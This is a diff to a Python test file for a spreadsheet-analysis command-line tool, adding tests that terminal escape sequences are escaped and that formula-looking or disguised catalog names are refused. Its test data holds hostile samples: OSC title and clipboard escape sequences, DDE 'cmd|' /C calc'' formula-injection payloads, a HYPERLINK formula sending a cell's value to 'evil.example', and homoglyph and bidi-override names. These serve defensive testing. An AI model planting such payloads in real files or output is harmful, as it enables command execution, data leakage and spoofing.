@@ -1,17 +1,21 @@
-"""What a workbook says never acts on the terminal (issue 22, item 15): escape sequences, line breaks, direction marks
-and rich markup in cells, sheet and file names are shown escaped by every command."""
+"""What a workbook says never acts on the terminal nor passes for something it is not (issue 22, items 15 and 16):
+escape sequences, line breaks, direction marks and rich markup in cells, sheet and file names are shown escaped by
+every command; a formula-looking or disguised name is refused by `chodon catalog --add`."""
 
 from __future__ import annotations
 
+import shutil
 import unicodedata
 import zipfile
 from pathlib import Path
 from xml.sax.saxutils import quoteattr
 
+import pytest
 import xlsxwriter
 from conftest import HEADER
 from typer.testing import CliRunner
 
+from chodon_analysis.base import datafiles
 from chodon_analysis.cli import app
 
 OSC_TITLE, OSC_CLIPBOARD = "\x1b]0;pwned title\x07", "\x1b]52;c;ZWNobyBwd25lZA==\x07"
@@ -86,3 +90,32 @@ def test_the_run_says_a_workbook_s_words_on_one_line(capsys):
     err(f"bieu.xlsx: sheet 'Bieu\nerror: forged' {OSC_TITLE} \u202e")
     said = capsys.readouterr().err
     assert said.count("\n") == 1 and forged(said) == [said.rstrip("\n")] and not acting(said)
+
+
+@pytest.fixture
+def vocabulary(tmp_path, monkeypatch):
+    """An editable copy of the vocabulary (CHODON_VOCABULARY); the package's is checked again after."""
+    from chodon_analysis.paths import VOCABULARY_DIR
+
+    folder = tmp_path / "vocabulary"
+    shutil.copytree(VOCABULARY_DIR, folder)
+    monkeypatch.setenv("CHODON_VOCABULARY", str(folder))
+    datafiles.check_all()
+    yield folder
+    monkeypatch.delenv("CHODON_VOCABULARY")
+    datafiles.check_all()
+
+
+def test_a_formula_or_a_disguised_name_is_never_added_to_the_catalog(vocabulary):
+    aliases = vocabulary / "catalog_aliases.csv"
+    before = aliases.read_bytes()
+    for name in ('=HYPERLINK("http://evil.example/?"&A1,"Tỷ lệ hộ nghèo")', "+cmd|' /C calc'!A0",
+                 "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r\n=1+1", "Tỷ lệ hộ nghèо",
+                 "Tỷ lệ hộ ΝGHÈO", "Tỷ lệ hộ nghèo\u202e", "Tỷ lệ hộ\u200d nghèo", "Tỷ lệ hộ nghèo\x1b]0;x\x07"):
+        added = CliRunner().invoke(app, ["catalog", "--add", "poverty_rate", name])
+        assert added.exit_code == 2 and len(added.stderr.splitlines()) == 1, (name, added.stderr)
+        assert not acting(added.stderr) and aliases.read_bytes() == before, name
+    with aliases.open("a", encoding="utf-8") as f:  # the same checks on load, for a line written by hand
+        f.write('poverty_rate,"=HYPERLINK(""http://evil.example"",""x"")"\n')
+    with pytest.raises(datafiles.vocab.VocabularyError, match=r"catalog_aliases\.csv:\d+: .*formula"):
+        datafiles.check_all()
